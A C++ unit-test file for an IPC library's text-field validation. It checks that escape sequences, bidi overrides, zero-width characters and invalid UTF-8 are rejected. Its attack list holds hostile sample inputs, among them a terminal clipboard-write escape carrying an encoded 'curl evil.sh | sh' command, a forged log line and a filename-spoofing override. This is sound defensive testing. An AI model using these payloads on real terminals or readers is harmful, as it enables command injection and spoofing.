// Text fields (issue 32, item 6): a string the schema marks capsa_text is
// refused when it carries what would act on a terminal or a reader (escape
// sequences, C1 controls, bidi overrides, zero-width and format characters,
// line separators, bytes that are not UTF-8); a string without the mark
// reaches the receiver byte for byte, which docs/interfaces.md states.
// The attacks are built as a hostile renderer would send them: flatbuffers
// written directly, not through the encoder that refuses them.
#include <errno.h>
#include <string.h>

#include <string>
#include <vector>

#include <flatbuffers/flatbuffers.h>
#include <gtest/gtest.h>

#include "ipc/interface.h"
#include "tests/ipc/interfaces/titled.capsa.h"

namespace {

struct Attack {
  const char *what;
  std::string bytes;
};

std::vector<Attack> Attacks() {
  return {
      {"OSC 52 clipboard write", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07z"},
      {"screen clear", "\x1b[2J\x1b[Hdone"},
      {"forged log line", "t\n[capsa] renderer 1 passed every sandbox check"},
      {"carriage return", "safe.png\r[capsa] ok"},
      {"8-bit CSI (C1)",
       "\xc2\x9b"
       "31mred"},
      {"8-bit OSC (C1)",
       "\xc2\x9d"
       "52;c;eA==\xc2\x9c"},
      {"RLO U+202E",
       "invoice\xe2\x80\xae"
       "fdp.exe"},
      {"LRI U+2066",
       "a\xe2\x81\xa6"
       "b"},
      {"PDI U+2069",
       "a\xe2\x81\xa9"
       "b"},
      {"line separator U+2028", "one\xe2\x80\xa8two"},
      {"paragraph separator U+2029", "one\xe2\x80\xa9two"},
      {"zero-width space U+200B", "pay\xe2\x80\x8bpal"},
      {"RLM U+200F", "x\xe2\x80\x8f"},
      {"word joiner U+2060", "x\xe2\x81\xa0y"},
      {"BOM U+FEFF", "\xef\xbb\xbftitle"},
      {"tag character U+E0041", "hi\xf3\xa0\x81\x81"},
      {"DEL", "a\x7f"},
      {"not UTF-8", "caf\xe9"},
      {"overlong '/'", "\xc0\xaf"},
      {"surrogate", "\xed\xa0\x80"},
  };
}

// An Opened response as a renderer could write it: any bytes in both
// strings (flatbuffers strings carry a length; the NUL rule is separate).
int Forge(const std::string &title, const std::string &raw, uint8_t *buf,
          size_t cap) {
  flatbuffers::FlatBufferBuilder b;
  auto t = b.CreateString(title.data(), title.size());
  auto r = b.CreateString(raw.data(), raw.size());
  auto start = b.StartTable();
  b.AddOffset(4, t);  // title: field 0
  b.AddOffset(6, r);  // raw: field 1
  b.Finish(flatbuffers::Offset<flatbuffers::Table>(b.EndTable(start)));
  if (b.GetSize() > cap) return -1;
  memcpy(buf, b.GetBufferPointer(), b.GetSize());
  return (int)b.GetSize();
}

TEST(InterfaceText, DescriptorCarriesTheMark) {
  char why[CAPSA_IPC_REASON_MAX] = "";
  EXPECT_EQ(0, capsa_iface_check_descriptor(&capsa_test_titled_interface, why,
                                            sizeof why))
      << why;
  const capsa_imessage_t *m = capsa_iface_message(&capsa_test_titled_interface,
                                                  CAPSA_TEST_TITLED_OPENED);
  ASSERT_NE(nullptr, m);
  ASSERT_EQ(2u, m->nfields);
  EXPECT_STREQ("title", m->fields[0].name);
  EXPECT_TRUE(m->fields[0].text);
  EXPECT_STREQ("raw", m->fields[1].name);
  EXPECT_FALSE(m->fields[1].text);
}

TEST(InterfaceText, EveryAttackInATextFieldIsABadMessage) {
  for (const Attack &a : Attacks()) {
    alignas(8) uint8_t buf[1024];
    int n = Forge(a.bytes, "x", buf, sizeof buf);
    ASSERT_GT(n, 0);
    capsa_test_titled_opened_t out;
    char why[CAPSA_IPC_REASON_MAX] = "";
    EXPECT_EQ(-EBADMSG, capsa_test_titled_opened_decode(
                            buf, (size_t)n, nullptr, 0, &out, why, sizeof why))
        << a.what;
    EXPECT_NE(nullptr, strstr(why, "Opened.title")) << a.what << ": " << why;
    EXPECT_NE(nullptr, strstr(why, "text field")) << a.what << ": " << why;
  }
}

TEST(InterfaceText, TheEncoderRefusesThemToo) {
  for (const Attack &a : Attacks()) {
    capsa_test_titled_opened_t m;
    capsa_test_titled_opened_init(&m);
    m.title = a.bytes.c_str();
    alignas(8) uint8_t buf[1024];
    char why[CAPSA_IPC_REASON_MAX] = "";
    EXPECT_EQ(-EINVAL, capsa_test_titled_opened_encode(
                           &m, nullptr, 0, buf, sizeof buf, why, sizeof why))
        << a.what;
    EXPECT_NE(nullptr, strstr(why, "Opened.title")) << a.what << ": " << why;
  }
}

TEST(InterfaceText, ReasonsNameTheCharacterAndWhere) {
  alignas(8) uint8_t buf[1024];
  capsa_test_titled_opened_t out;
  char why[CAPSA_IPC_REASON_MAX] = "";
  int n = Forge(
      "invoice\xe2\x80\xae"
      "fdp.exe",
      "", buf, sizeof buf);
  ASSERT_EQ(-EBADMSG, capsa_test_titled_opened_decode(
                          buf, (size_t)n, nullptr, 0, &out, why, sizeof why));
  EXPECT_NE(nullptr, strstr(why, "U+202E at byte 7")) << why;
  n = Forge("caf\xe9", "", buf, sizeof buf);
  ASSERT_EQ(-EBADMSG, capsa_test_titled_opened_decode(
                          buf, (size_t)n, nullptr, 0, &out, why, sizeof why));
  EXPECT_NE(nullptr, strstr(why, "0xe9 at 3 is not UTF-8")) << why;
}

// What is documented: a string without capsa_text is the sender's bytes.
TEST(InterfaceText, AFieldNotMarkedTextArrivesRaw) {
  for (const Attack &a : Attacks()) {
    alignas(8) uint8_t buf[1024];
    int n = Forge("ok", a.bytes, buf, sizeof buf);
    ASSERT_GT(n, 0);
    capsa_test_titled_opened_t out;
    char why[CAPSA_IPC_REASON_MAX] = "";
    ASSERT_EQ(0, capsa_test_titled_opened_decode(buf, (size_t)n, nullptr, 0,
                                                 &out, why, sizeof why))
        << a.what << ": " << why;
    EXPECT_EQ(a.bytes, std::string(out.raw)) << a.what;
    EXPECT_STREQ("ok", out.title);
  }
}

TEST(InterfaceText, PrintableUnicodeIsText) {
  const char *good[] = {
      "Holiday photos",
      "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80",  // é, 日本, 😀
      "\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85",  // Arabic letters: RTL, no controls
      "tab-free, back\\slash, 100% \"quoted\"",
      "",
  };
  for (const char *g : good) {
    alignas(8) uint8_t buf[1024];
    int n = Forge(g, "", buf, sizeof buf);
    capsa_test_titled_opened_t out;
    char why[CAPSA_IPC_REASON_MAX] = "";
    ASSERT_EQ(0, capsa_test_titled_opened_decode(buf, (size_t)n, nullptr, 0,
                                                 &out, why, sizeof why))
        << g << ": " << why;
    EXPECT_STREQ(g, out.title);
  }
}

// The mark is part of the interface's version: peers that disagree on it
// do not agree in HELLO.
TEST(InterfaceText, TheMarkChangesTheHash) {
  const capsa_imessage_t *m = capsa_iface_message(&capsa_test_titled_interface,
                                                  CAPSA_TEST_TITLED_OPENED);
  ASSERT_NE(nullptr, m);
  std::vector<capsa_ifield_t> fields(m->fields, m->fields + m->nfields);
  std::vector<capsa_imessage_t> msgs(capsa_test_titled_interface.messages,
                                     capsa_test_titled_interface.messages +
                                         capsa_test_titled_interface.nmessages);
  fields[0].text = false;
  msgs[CAPSA_TEST_TITLED_OPENED - 1].fields = fields.data();
  capsa_interface_t plain = capsa_test_titled_interface;
  plain.messages = msgs.data();
  EXPECT_NE(capsa_iface_hash(&capsa_test_titled_interface),
            capsa_iface_hash(&plain));
  // A text mark on anything but a string is a malformed descriptor.
  fields[0].text = true;
  fields[0].type = CAPSA_IFIELD_BYTES;
  char why[CAPSA_IPC_REASON_MAX] = "";
  EXPECT_EQ(-EINVAL, capsa_iface_check_descriptor(&plain, why, sizeof why));
}

}  // namespace
